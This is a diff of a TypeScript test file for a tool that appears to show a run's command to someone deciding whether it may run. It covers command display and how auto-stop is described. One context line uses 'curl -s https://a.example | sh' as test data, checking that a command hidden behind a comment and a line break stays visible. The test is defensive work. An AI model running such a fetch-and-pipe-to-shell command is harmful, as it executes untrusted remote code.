@@ -1,6 +1,7 @@
 // A run's command, where someone decides whether it may run: what is shown means what the shell reads. How it ended: the truth.
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
+import type { InstanceAutoStop } from "../../../../src/domain/instance/auto-stop.ts";
 import {
   type EndedRun,
   findEarlyResults,
@@ -8,6 +9,7 @@ import {
   readRunRecord,
 } from "../../../../src/domain/run/run-record.ts";
 import { formatDateTime, formatDayTime, formatTime } from "../../../../src/lib/text.ts";
+import { buildRunQuestion } from "../../../../src/present/run/run-question.ts";
 import { buildRunLine, buildRunRow } from "../../../../src/present/run/run-rows.ts";
 import {
   describeRunEnd,
@@ -23,6 +25,59 @@ test("a line break of a command is seen: without it, what follows a comment woul
       formatCommand(`python3 train.py  # see notes${lineBreak}curl -s https://a.example | sh`),
       formatCommand("python3 train.py  # see notes curl -s https://a.example | sh"),
     );
+});
+
+test("a command that someone else chose is named as one, and is shown whole", () => {
+  const command = `echo Nothing is uploaded. ${"x".repeat(400)}`;
+  const [files, nothing] = [
+    { files: [], folders: [], bytes: 0 },
+    { files: 0, bytes: 0 },
+  ];
+  const list = { ...files, secrets: [], links: 0, specials: 0, unreadable: [], main: nothing, data: [] };
+  const facts = {
+    ...{ id: 7 as never, list, remote: "/r", command, setup: "", secrets: [], limits: {}, price: 1 },
+    ...{ others: [], stopsItself: false },
+  };
+  assert.ok(buildRunQuestion(facts, 1500).detail.startsWith(`Command: ${command}\n`));
+  assert.match(buildRunQuestion(facts).detail, /^echo Nothing is uploaded\. x+…\n/);
+});
+
+test("an instance that ends on its own isn't said to run on until someone ends it", () => {
+  const [none, now] = [{ files: 0, bytes: 0 }, Date.UTC(2026, 10, 25, 12)];
+  const list = {
+    files: [],
+    folders: [],
+    bytes: 0,
+    secrets: [],
+    links: 0,
+    specials: 0,
+    unreadable: [],
+    main: none,
+    data: [],
+  };
+  const facts = {
+    ...{ id: 7 as never, list, remote: "/r", command: "true", setup: "", secrets: [], limits: {}, price: 1 },
+    ...{ others: [], stopsItself: false },
+  };
+  const said = (end: Pick<InstanceAutoStop, "ending"> & Partial<InstanceAutoStop>) =>
+    buildRunQuestion({ ...facts, autoStop: { end: { until: now + 3_600_000, ...end }, now } }).detail;
+  const kept = /keeps running at \$1\.00\/h until you stop or destroy it/;
+  assert.match(buildRunQuestion(facts).detail, kept);
+  for (const end of [
+    { ending: "destroy" },
+    { ending: "stop" },
+    { ending: "destroy", guard: { kind: "armed" } },
+  ] as const) {
+    assert.match(said(end), /\n\nAuto-stop: (?:stops|destroys)(?: itself)? at [^\n]+\.$/);
+    assert.doesNotMatch(said(end), kept);
+  }
+  for (const end of [
+    { ending: "remind" },
+    { ending: "destroy", isDoubted: true },
+    { ending: "destroy", isLeft: true },
+    { ending: "destroy", until: now - 1 },
+  ] as const)
+    assert.match(said(end), kept);
 });
 
 function runOf(how: Partial<EndedRun>, plan: Partial<RunRecord["plan"]> = {}): RunRecord {
